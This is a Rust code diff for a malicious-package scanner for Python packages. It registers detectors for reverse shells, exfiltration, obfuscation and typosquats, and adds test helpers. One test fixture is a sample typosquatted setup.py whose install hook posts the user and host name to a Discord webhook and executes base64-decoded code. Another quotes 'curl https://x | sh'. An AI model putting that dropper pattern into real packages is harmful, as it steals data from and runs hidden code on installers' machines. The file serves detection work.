@@ -1,16 +1,392 @@
-//! The registry of detectors: one file each, listed once here.
+//! The registry of detectors: one file each, listed once here, plus the helpers
+//! they share (`pysrc` for Python lexing and evidence, `urls` for URL extraction,
+//! `sinks` for the network/process/exec call patterns several detectors combine).
 //!
-//! STUB: the scanner work (issue 4) owns this file.
+//! Owns: the order detectors appear in reports. Must not: hold detector logic.
 
 use super::detector::{Detector, DetectorMeta};
 
+pub mod pysrc;
+pub mod sinks;
+pub mod urls;
+
+pub mod anomaly_long_string;
+pub mod exec_creates_process;
+pub mod exec_download_execute;
+pub mod exec_dynamic_code;
+pub mod exec_install_hook;
+pub mod exec_powershell;
+pub mod exec_pth;
+pub mod fs_credential_access;
+pub mod fs_persistence;
+pub mod hunting_anonymous_author;
+pub mod hunting_system_info;
+pub mod meta_install_hook_only;
+pub mod meta_typosquat;
+pub mod net_banking_url;
+pub mod net_downloads_file;
+pub mod net_exfil_endpoint;
+pub mod net_interesting_file_url;
+pub mod net_ip_address;
+pub mod net_reverse_shell;
+pub mod net_trusted_subdomain;
+pub mod net_url_shortener;
+pub mod obf_decode_exec;
+pub mod obf_invisible_unicode;
+pub mod obf_packer;
+pub mod secrets_keys;
+pub mod secrets_tokens;
+
 /// Every detector, in report order.
 pub fn all() -> Vec<Box<dyn Detector>> {
-    vec![]
+    vec![
+        // network
+        Box::new(net_downloads_file::DownloadsFile),
+        Box::new(net_banking_url::BankingUrl),
+        Box::new(net_interesting_file_url::InterestingFileUrl),
+        Box::new(net_trusted_subdomain::TrustedSubdomain),
+        Box::new(net_ip_address::IpAddress),
+        Box::new(net_url_shortener::UrlShortener),
+        Box::new(net_exfil_endpoint::ExfilEndpoint),
+        Box::new(net_reverse_shell::ReverseShell),
+        // execution
+        Box::new(exec_creates_process::CreatesProcess),
+        Box::new(exec_install_hook::InstallHook),
+        Box::new(exec_pth::PthExec),
+        Box::new(exec_download_execute::DownloadExecute),
+        Box::new(exec_dynamic_code::DynamicCode),
+        Box::new(exec_powershell::SilentPowershell),
+        // obfuscation / anomaly
+        Box::new(obf_decode_exec::DecodeExec),
+        Box::new(obf_packer::Packer),
+        Box::new(obf_invisible_unicode::InvisibleUnicode),
+        Box::new(anomaly_long_string::LongString),
+        // file system / hunting
+        Box::new(fs_credential_access::CredentialAccess),
+        Box::new(hunting_system_info::SystemInfo),
+        Box::new(fs_persistence::Persistence),
+        // secrets
+        Box::new(secrets_keys::KeysAndCerts),
+        Box::new(secrets_tokens::AccessTokens),
+        // metadata / hunting
+        Box::new(hunting_anonymous_author::AnonymousAuthor),
+        Box::new(meta_typosquat::Typosquat),
+        Box::new(meta_install_hook_only::InstallHookOnly),
+    ]
 }
 
 /// Every detector id the scanner can report (detectors plus the engine's own
 /// archive findings), for policy validation: an unknown id in a policy is an error.
 pub fn catalog() -> Vec<&'static DetectorMeta> {
     all().iter().flat_map(|d| d.all_meta()).collect()
+}
+
+/// Test helpers shared by every detector's table-driven tests.
+#[cfg(test)]
+pub(crate) mod testutil {
+    use super::super::detector::{Detector, Hits, Package, TextFile};
+    use crate::model::{ArtifactKind, FileRole, Severity};
+
+    /// One reported hit, flattened for assertions.
+    #[derive(Debug, Clone, PartialEq)]
+    pub struct Got {
+        pub id: &'static str,
+        pub path: String,
+        pub line: Option<u32>,
+        pub indicator: String,
+        pub severity: Severity,
+        pub snippet: String,
+    }
+
+    fn flatten(hits: &Hits) -> Vec<Got> {
+        hits.iter()
+            .map(|(m, h)| Got {
+                id: m.id,
+                path: h.evidence.path.clone(),
+                line: h.evidence.line,
+                indicator: h.evidence.indicator.clone().unwrap_or_default(),
+                severity: h.severity.unwrap_or(m.severity),
+                snippet: h.evidence.snippet.clone().unwrap_or_default(),
+            })
+            .collect()
+    }
+
+    /// Run `d` on one file the way the engine does: only if the prefilter matches.
+    pub fn scan(d: &dyn Detector, path: &str, role: FileRole, text: &str) -> Vec<Got> {
+        let lits = d.literals();
+        if !lits.is_empty() && !lits.iter().any(|l| text.contains(l)) {
+            return vec![];
+        }
+        let is_python = path.ends_with(".py") || path.ends_with(".pyw") || path.ends_with(".pyi");
+        let file = TextFile {
+            path,
+            role,
+            is_python,
+            text,
+        };
+        let mut hits = Hits::default();
+        d.scan_text(&file, &mut hits);
+        let got = flatten(&hits);
+        for g in &got {
+            assert!(
+                d.all_meta().iter().any(|m| m.id == g.id),
+                "unregistered id {}",
+                g.id
+            );
+        }
+        got
+    }
+
+    /// Run `d` on package-level facts.
+    pub fn scan_pkg(
+        d: &dyn Detector,
+        filename: &str,
+        project: Option<&str>,
+        kind: ArtifactKind,
+        core_metadata: Option<&str>,
+        members: &[(String, FileRole, u64)],
+    ) -> Vec<Got> {
+        let pkg = Package {
+            filename,
+            project,
+            version: Some("1.0"),
+            kind,
+            core_metadata,
+            members,
+        };
+        let mut hits = Hits::default();
+        d.scan_package(&pkg, &mut hits);
+        flatten(&hits)
+    }
+
+    /// A case expectation: `None` = no hit at all; `Some((line, indicator, severity))`
+    /// = the first hit is at that line with that indicator and severity.
+    pub type Want = Option<(u32, &'static str, Severity)>;
+
+    /// Run a table of (name, path, role, text, want) cases against `d`, expecting `id`.
+    pub fn table(d: &dyn Detector, id: &str, cases: &[(&str, &str, FileRole, &str, Want)]) {
+        for (name, path, role, text, want) in cases {
+            let got = scan(d, path, *role, text);
+            match want {
+                None => assert!(
+                    got.is_empty(),
+                    "case {name:?}: expected no hit, got {got:#?}"
+                ),
+                Some((line, ind, sev)) => {
+                    let first = got
+                        .first()
+                        .unwrap_or_else(|| panic!("case {name:?}: expected a hit, got none"));
+                    assert_eq!(first.id, id, "case {name:?}: id");
+                    assert_eq!(first.path, *path, "case {name:?}: path");
+                    assert_eq!(first.line, Some(*line), "case {name:?}: line ({first:?})");
+                    assert_eq!(
+                        first.indicator, *ind,
+                        "case {name:?}: indicator ({first:?})"
+                    );
+                    assert_eq!(first.severity, *sev, "case {name:?}: severity ({first:?})");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn ids_are_unique_and_well_formed() {
+        let cat = super::catalog();
+        let mut ids: Vec<_> = cat.iter().map(|m| m.id).collect();
+        for m in &cat {
+            let (cat_part, slug) = m.id.split_once('.').expect("id is category.slug");
+            assert_eq!(cat_part, m.category.as_str(), "{} category prefix", m.id);
+            assert!(
+                !slug.is_empty() && slug.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'),
+                "{}",
+                m.id
+            );
+            assert!(m.title.ends_with('.'), "{} title is a report line", m.id);
+            assert!(!m.description.is_empty());
+        }
+        ids.sort();
+        let n = ids.len();
+        ids.dedup();
+        assert_eq!(ids.len(), n, "duplicate detector ids");
+    }
+
+    /// Run every detector over one file, the way the engine does (prefilter first).
+    pub fn scan_all(path: &str, role: FileRole, text: &str) -> Vec<Got> {
+        super::all()
+            .iter()
+            .flat_map(|d| scan(d.as_ref(), path, role, text))
+            .collect()
+    }
+
+    const DROPPER: &str = "import os, base64, socket, getpass, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        info = {'u': getpass.getuser(), 'h': socket.gethostname()}\n        requests.post('https://discord.com/api/webhooks/1/abc', json=info)\n        exec(base64.b64decode('aW1wb3J0IG9z'))\n        install.run(self)\n\nsetup(name='reqeusts', cmdclass={'install': Post})\n";
+    const BENIGN: &str = "\"\"\"Helpers. See https://example.org/docs and run `curl https://x | sh`.\"\"\"\nimport subprocess  # subprocess.run is used below\n__version__ = '1.2.3.4'\nHOST = '127.0.0.1'\n\ndef version():\n    return eval('1 + 1')\n";
+
+    #[test]
+    fn all_detectors_on_a_dropper_setup_py() {
+        let got = scan_all("reqeusts-1.0/setup.py", FileRole::InstallTime, DROPPER);
+        let mut ids: Vec<_> = got.iter().map(|g| g.id).collect();
+        ids.sort();
+        ids.dedup();
+        assert_eq!(
+            ids,
+            vec![
+                "execution.dynamic-code",
+                "execution.install-hook",
+                "hunting.system-info",
+                "network.exfiltration-endpoint",
+                "obfuscation.decode-exec",
+            ],
+            "{got:#?}"
+        );
+        assert!(got
+            .iter()
+            .any(|g| g.id == "execution.install-hook" && g.severity == Severity::Critical));
+    }
+
+    #[test]
+    fn all_detectors_quiet_on_benign_look_alikes() {
+        let got = scan_all("pkg/util.py", FileRole::Runtime, BENIGN);
+        assert!(got.is_empty(), "{got:#?}");
+    }
+
+    /// Speed probe with an engine-like prefilter (one Aho-Corasick pass over the union
+    /// of literals, then only the matching detectors):
+    /// `PROBE_DIR=/path cargo test --release --lib prefilter_speed_probe -- --ignored --nocapture`.
+    #[test]
+    #[ignore]
+    fn prefilter_speed_probe() {
+        let Ok(root) = std::env::var("PROBE_DIR") else {
+            return;
+        };
+        let dets = super::all();
+        let mut pats: Vec<&str> = Vec::new();
+        let mut owner: Vec<usize> = Vec::new();
+        let mut always: Vec<usize> = Vec::new();
+        for (i, d) in dets.iter().enumerate() {
+            if d.literals().is_empty() {
+                always.push(i);
+            }
+            for l in d.literals() {
+                pats.push(l);
+                owner.push(i);
+            }
+        }
+        let ac = aho_corasick::AhoCorasick::new(&pats).expect("ac");
+        let mut texts = Vec::new();
+        let mut stack = vec![std::path::PathBuf::from(root)];
+        while let Some(dir) = stack.pop() {
+            let Ok(rd) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            for e in rd.flatten() {
+                let p = e.path();
+                if p.is_dir() {
+                    stack.push(p);
+                } else if let Ok(t) = std::fs::read_to_string(&p) {
+                    texts.push((p.to_string_lossy().to_string(), t));
+                }
+            }
+        }
+        let bytes: usize = texts.iter().map(|(_, t)| t.len()).sum();
+        let mut calls = vec![0usize; dets.len()];
+        let mut spent = vec![std::time::Duration::ZERO; dets.len()];
+        let t0 = std::time::Instant::now();
+        let mut nhits = 0;
+        for (path, text) in &texts {
+            let mut want = vec![false; dets.len()];
+            for &i in &always {
+                want[i] = true;
+            }
+            for m in ac.find_overlapping_iter(text.as_str()) {
+                want[owner[m.pattern().as_usize()]] = true;
+            }
+            let is_python = path.ends_with(".py");
+            let file = TextFile {
+                path,
+                role: FileRole::Runtime,
+                is_python,
+                text,
+            };
+            let mut hits = Hits::default();
+            for (i, d) in dets.iter().enumerate() {
+                if want[i] {
+                    calls[i] += 1;
+                    let t = std::time::Instant::now();
+                    d.scan_text(&file, &mut hits);
+                    spent[i] += t.elapsed();
+                }
+            }
+            nhits += hits.len();
+        }
+        let el = t0.elapsed();
+        eprintln!(
+            "{} files, {} MB, {:?} => {:.1} MB/s, {nhits} hits",
+            texts.len(),
+            bytes >> 20,
+            el,
+            bytes as f64 / 1e6 / el.as_secs_f64()
+        );
+        for (i, d) in dets.iter().enumerate() {
+            eprintln!(
+                "{:40} called on {:5} of {} files, {:?}",
+                d.meta().id,
+                calls[i],
+                texts.len(),
+                spent[i]
+            );
+        }
+    }
+
+    /// False-positive probe over a tree of benign Python (e.g. a CPython `Lib/`):
+    /// `PROBE_DIR=/path cargo test --lib benign_tree_probe -- --ignored --nocapture`.
+    #[test]
+    #[ignore]
+    fn benign_tree_probe() {
+        let Ok(root) = std::env::var("PROBE_DIR") else {
+            return;
+        };
+        let mut stack = vec![std::path::PathBuf::from(root)];
+        let mut counts: std::collections::BTreeMap<&str, usize> = Default::default();
+        let (mut files, mut bytes) = (0usize, 0usize);
+        let t0 = std::time::Instant::now();
+        while let Some(dir) = stack.pop() {
+            let Ok(rd) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            for e in rd.flatten() {
+                let p = e.path();
+                if p.is_dir() {
+                    stack.push(p);
+                    continue;
+                }
+                let Ok(text) = std::fs::read_to_string(&p) else {
+                    continue;
+                };
+                let path = p.to_string_lossy().to_string();
+                let role = if super::pysrc::looks_like_test_path(&path) {
+                    FileRole::TestOrDocs
+                } else {
+                    FileRole::Runtime
+                };
+                files += 1;
+                bytes += text.len();
+                for g in scan_all(&path, role, &text) {
+                    let c = counts.entry(g.id).or_default();
+                    *c += 1;
+                    if *c <= 5 {
+                        eprintln!(
+                            "{} {}:{} [{}] {}",
+                            g.id,
+                            g.path,
+                            g.line.unwrap_or(0),
+                            g.indicator,
+                            g.snippet
+                        );
+                    }
+                }
+            }
+        }
+        eprintln!("{files} files, {bytes} bytes in {:?}", t0.elapsed());
+        eprintln!("{counts:#?}");
+    }
 }
